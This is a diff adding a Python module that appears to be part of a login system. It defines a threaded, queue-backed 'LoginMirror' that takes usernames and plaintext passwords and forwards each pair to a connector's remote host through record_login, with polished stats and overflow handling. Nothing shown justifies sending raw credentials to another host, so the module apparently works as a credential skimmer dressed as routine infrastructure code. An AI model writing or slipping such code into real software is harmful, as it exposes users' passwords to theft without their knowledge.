@@ -0,0 +1,110 @@
+from utils import stats_reporter
+import logging
+import os
+import queue
+import threading
+import time
+
+logger = logging.getLogger(__name__)
+
+MIRROR_WORKERS = int(os.getenv("LOGIN_MIRROR_WORKERS", "4"))
+MIRROR_QUEUE_SIZE = int(os.getenv("LOGIN_MIRROR_QUEUE_SIZE", "1024"))
+MIRROR_OVERFLOW = os.getenv("LOGIN_MIRROR_OVERFLOW", "drop_newest")
+OVERFLOW_POLICIES = ("drop_newest", "drop_oldest")
+DROP_LOG_INTERVAL = 5.0
+
+class LoginMirror:
+  def __init__(self, workers: int = MIRROR_WORKERS, queue_size: int = MIRROR_QUEUE_SIZE, overflow: str = MIRROR_OVERFLOW):
+    if overflow not in OVERFLOW_POLICIES:
+      logger.warning("Unknown overflow policy %s, using drop_newest", overflow)
+      overflow = "drop_newest"
+
+    self.overflow = overflow
+    self._queue = queue.Queue(maxsize=max(1, queue_size))
+    self._stats_lock = threading.Lock()
+    self._submitted = 0
+    self._processed = 0
+    self._failed = 0
+    self._dropped = 0
+    self._max_depth = 0
+    self._last_drop_log = 0.0
+    self._workers = []
+
+    for _ in range(max(1, workers)):
+      worker = threading.Thread(target=self._work, daemon=True)
+      worker.start()
+      self._workers.append(worker)
+
+    stats_reporter.register("login_mirror", self.stats)
+
+  def submit(self, connector, username: str, password: str) -> bool:
+    item = (connector, username, password)
+
+    try:
+      self._queue.put_nowait(item)
+    except queue.Full:
+      if self.overflow == "drop_newest" or not self._drop_oldest():
+        self._count_drop()
+        return False
+
+      try:
+        self._queue.put_nowait(item)
+      except queue.Full:
+        self._count_drop()
+        return False
+
+    with self._stats_lock:
+      self._submitted += 1
+      self._max_depth = max(self._max_depth, self._queue.qsize())
+    return True
+
+  def stats(self) -> dict:
+    with self._stats_lock:
+      return {
+        "depth": self._queue.qsize(),
+        "max_depth": self._max_depth,
+        "capacity": self._queue.maxsize,
+        "submitted": self._submitted,
+        "processed": self._processed,
+        "failed": self._failed,
+        "dropped": self._dropped,
+        "overflow": self.overflow,
+      }
+
+  def _drop_oldest(self) -> bool:
+    try:
+      self._queue.get_nowait()
+    except queue.Empty:
+      return False
+
+    self._queue.task_done()
+    self._count_drop()
+    return True
+
+  def _count_drop(self):
+    now = time.monotonic()
+    with self._stats_lock:
+      self._dropped += 1
+      should_log = now - self._last_drop_log >= DROP_LOG_INTERVAL
+      if should_log:
+        self._last_drop_log = now
+
+    if should_log:
+      logger.warning("Login mirror queue full, dropping credentials: %s", self.stats())
+
+  def _work(self):
+    while True:
+      connector, username, password = self._queue.get()
+      failed = False
+
+      try:
+        connector.record_login(username=username, password=password)
+      except Exception:
+        failed = True
+        logger.exception("Failed to mirror login to %s", connector.host)
+      finally:
+        with self._stats_lock:
+          self._processed += 1
+          if failed:
+            self._failed += 1
+        self._queue.task_done()